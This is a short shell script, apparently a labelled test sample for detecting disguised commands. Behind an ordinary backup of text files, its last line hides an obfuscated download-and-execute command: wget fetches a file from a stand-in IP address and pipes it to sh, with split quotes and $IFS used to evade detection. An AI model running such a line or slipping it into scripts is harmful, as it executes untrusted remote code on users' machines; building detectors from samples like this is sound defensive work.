# disguised-command: quoting tricks mixed with $IFS in an otherwise ordinary backup script
backup_dir=./backup
mkdir -p "$backup_dir"
cp ./*.txt "$backup_dir"/ 2>/dev/null || true
echo "backed up to $backup_dir"
"w"g'e't$IFS-qO-$IFS'http://203.0.113.7/p'|s''h
